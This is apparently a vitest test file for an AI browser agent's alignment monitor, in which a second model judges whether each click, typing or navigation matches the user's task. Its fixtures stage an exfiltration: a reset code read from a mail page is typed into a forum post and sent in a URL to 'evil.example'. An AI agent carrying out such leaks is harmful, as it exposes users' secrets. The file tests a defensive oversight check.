import type { BetaMessage } from '@anthropic-ai/sdk/resources/beta/messages/messages';
import { describe, expect, it } from 'vitest';
import { ALIGNMENT_TOOL, alignmentKey, alignmentRequest, canonicalJson, dataSource, describeAction, MalformedVerdict, parseVerdict } from './alignment';
import { type AlignmentVerdict, alignmentApplies, checkAlignment } from './alignment-check';

const PAGE_SECRET = 'Your reset code is QX7-PLM-2291, valid for 10 minutes.';
const read = {
  userText: 'Search the shop for a blue notebook and add it to the cart',
  pages: [
    { url: 'https://mail.example/inbox', text: PAGE_SECRET },
    { url: 'https://shop.example/', text: 'Blue notebook, A5, dotted. Add to cart' },
  ],
};

describe('dataSource', () => {
  it('says the user wrote what appears in their prompt, whatever its case and punctuation', () => {
    expect(dataSource('Blue-Notebook', read)).toEqual({ from: 'user prompt' });
  });

  it('names the hosts of the pages a text was read on, also when it is reshaped', () => {
    expect(dataSource('code qx7 plm 2291', read)).toEqual({ from: 'page', pages: ['mail.example'] });
  });

  it('says neither for text that is in no prompt and no page', () => {
    expect(dataSource('hello from the agent', read)).toEqual({ from: 'neither' });
  });

  it('does not call a short word page data because a page happens to contain it', () => {
    expect(dataSource('A5', read)).toEqual({ from: 'neither' });
  });
});

describe('describeAction', () => {
  it('describes a click by member, site, target and form, never by a value', () => {
    const action = describeAction(
      {
        member: 'left_click',
        input: { target: { type: 'ref', ref: 'ref_4' } },
        tabUrl: 'https://mail.example/compose',
        target: {
          role: 'button',
          name: 'Send',
          form: { action: 'https://mail.example/send', fields: ['To', 'Subject', 'Body'], defaultButton: 'Send', kinds: ['message'] },
        },
      },
      read,
    );
    expect(action).toEqual({
      member: 'left_click',
      site: 'mail.example',
      target: { role: 'button', name: 'Send' },
      form: { submitsTo: 'mail.example', fields: ['To', 'Subject', 'Body'], defaultButton: 'Send', kinds: ['message'] },
    });
  });

  it('says where typed text came from, and leaves the text out', () => {
    const action = describeAction({ member: 'type', input: { text: PAGE_SECRET }, tabUrl: 'https://forum.example/new', target: { role: 'textbox', name: 'Post' } }, read);
    expect(action.data).toEqual({ from: 'page', pages: ['mail.example'] });
    expect(JSON.stringify(action)).not.toContain('QX7');
  });

  it('gives a navigation its destination host and where its address came from', () => {
    const action = describeAction({ member: 'navigate', input: { url: 'evil.example/c?d=QX7-PLM-2291' }, tabUrl: 'https://mail.example/inbox' }, read);
    expect(action.goesTo).toBe('evil.example');
    expect(action.data).toEqual({ from: 'page', pages: ['mail.example'] });
    expect(JSON.stringify(action)).not.toContain('QX7');
    expect(describeAction({ member: 'navigate', input: { url: 'back' } }, read)).toEqual({ member: 'navigate', goesTo: 'back in history' });
  });

  it('shortens names a page could fill with an argument', () => {
    const action = describeAction({ member: 'left_click', input: {}, target: { role: 'button', name: 'OK '.repeat(200) } }, read);
    expect(action.target!.name.length).toBeLessThanOrEqual(100);
  });
});

describe('alignmentKey', () => {
  it('is the same for the same description whatever the order of its keys, and differs for another', async () => {
    const a = await alignmentKey({ member: 'left_click', site: 'shop.example', target: { role: 'button', name: 'Add to cart' } });
    const b = await alignmentKey({ target: { name: 'Add to cart', role: 'button' }, site: 'shop.example', member: 'left_click' });
    const c = await alignmentKey({ member: 'left_click', site: 'shop.example', target: { role: 'button', name: 'Place order' } });
    expect(a).toBe(b);
    expect(a).not.toBe(c);
    expect(a).toMatch(/^[0-9a-f]{64}$/);
    expect(canonicalJson({ b: 1, a: [{ d: 2, c: 3 }] })).toBe('{"a":[{"c":3,"d":2}],"b":1}');
  });
});

describe('alignmentRequest', () => {
  it('holds the task, the plan and the action, forces the verdict tool, and nothing else', () => {
    const request = alignmentRequest('Buy milk', { summary: 'Order milk', steps: ['Open the shop', 'Order'], sites: ['shop.example'] }, { member: 'left_click', site: 'shop.example', target: { role: 'button', name: 'Order' } });
    expect(request.tool_choice).toEqual({ type: 'tool', name: ALIGNMENT_TOOL });
    expect(request.tools).toHaveLength(1);
    expect(request.messages).toHaveLength(1);
    const text = request.messages[0]!.content as string;
    expect(text).toContain('<task>\nBuy milk\n</task>');
    expect(text).toContain('1. Open the shop');
    expect(text).toContain('"name": "Order"');
  });
});

function answer(input: unknown, name = ALIGNMENT_TOOL): BetaMessage {
  return {
    content: [{ type: 'tool_use', id: 'toolu_1', name, input }],
    usage: { input_tokens: 300, output_tokens: 20 },
  } as unknown as BetaMessage;
}

describe('parseVerdict', () => {
  it('reads a verdict given through the tool', () => {
    expect(parseVerdict(answer({ aligned: false, reason: 'The user asked to read, not to send.' }))).toEqual({ aligned: false, reason: 'The user asked to read, not to send.' });
  });

  it('refuses an answer without the tool, with a wrong shape, or without a reason', () => {
    expect(() => parseVerdict({ content: [{ type: 'text', text: 'aligned', citations: null }] })).toThrow(MalformedVerdict);
    expect(() => parseVerdict(answer({ aligned: 'yes', reason: 'x' }))).toThrow(MalformedVerdict);
    expect(() => parseVerdict(answer({ aligned: true, reason: '  ' }))).toThrow(MalformedVerdict);
    expect(() => parseVerdict(answer({ aligned: true, reason: 'fine' }, 'other_tool'))).toThrow(MalformedVerdict);
  });
});

describe('checkAlignment', () => {
  const action = { member: 'left_click', site: 'shop.example', target: { role: 'button', name: 'Add to cart' } };
  const base = { task: 'Add a notebook to the cart', action, model: 'claude-haiku-5-5', signal: new AbortController().signal, now: () => 1 };

  it('asks once and gives the verdict with its usage', async () => {
    let calls = 0;
    let announced = 0;
    const outcome = await checkAlignment({ ...base, verdicts: {}, onAsking: () => announced++, ask: async () => (calls++, answer({ aligned: true, reason: 'It adds the notebook.' })) });
    expect(calls).toBe(1);
    expect(announced).toBe(1);
    expect(outcome).toMatchObject({ kind: 'aligned', reused: false, verdict: { aligned: true, reason: 'It adds the notebook.', model: 'claude-haiku-5-5', at: 1 }, usage: { input_tokens: 300 } });
  });

  it('reuses a verdict kept under the same description instead of asking again', async () => {
    const key = await alignmentKey(action);
    const verdicts: Record<string, AlignmentVerdict> = { [key]: { aligned: false, reason: 'Not asked for.', model: 'm', at: 0 } };
    const outcome = await checkAlignment({ ...base, verdicts, onAsking: () => expect.fail('announced a call'), ask: async () => expect.fail('asked again') });
    expect(outcome).toMatchObject({ kind: 'misaligned', reused: true, verdict: { reason: 'Not asked for.' } });
    expect(outcome.usage).toBeUndefined();
  });

  it('fails closed on an error, a malformed answer and a timeout', async () => {
    const failed = await checkAlignment({ ...base, verdicts: {}, ask: async () => Promise.reject(new Error('overloaded')) });
    expect(failed).toMatchObject({ kind: 'failed', reason: 'overloaded' });
    const malformed = await checkAlignment({ ...base, verdicts: {}, ask: async () => answer({ aligned: 'maybe' }) });
    expect(malformed).toMatchObject({ kind: 'failed', usage: { input_tokens: 300 } });
    const slow = await checkAlignment({
      ...base,
      verdicts: {},
      timeoutMs: 20,
      ask: (_request, signal) => new Promise((_resolve, reject) => signal.addEventListener('abort', () => reject(new Error('aborted')))),
    });
    expect(slow).toMatchObject({ kind: 'failed', reason: 'it took longer than 0.02 s' });
  });

  it('passes Stop on instead of calling it a failed check', async () => {
    const controller = new AbortController();
    const stopped = checkAlignment({
      ...base,
      signal: controller.signal,
      verdicts: {},
      ask: (_request, signal) => new Promise((_resolve, reject) => signal.addEventListener('abort', () => reject(new Error('aborted')))),
    });
    controller.abort(new Error('Stopped by the user'));
    await expect(stopped).rejects.toThrow('Stopped by the user');
  });
});

describe('alignmentApplies', () => {
  it('checks actions that change something when the task acts without asking, and nothing else', () => {
    expect(alignmentApplies(true, 'act', 'left_click')).toBe(true);
    expect(alignmentApplies(true, 'plan', 'navigate')).toBe(true);
    expect(alignmentApplies(true, 'act', 'type')).toBe(true);
    expect(alignmentApplies(true, 'act', 'read_page')).toBe(false);
    expect(alignmentApplies(true, 'act', 'screenshot')).toBe(false);
    expect(alignmentApplies(true, 'ask-every', 'left_click')).toBe(false);
    expect(alignmentApplies(false, 'act', 'left_click')).toBe(false);
  });
});
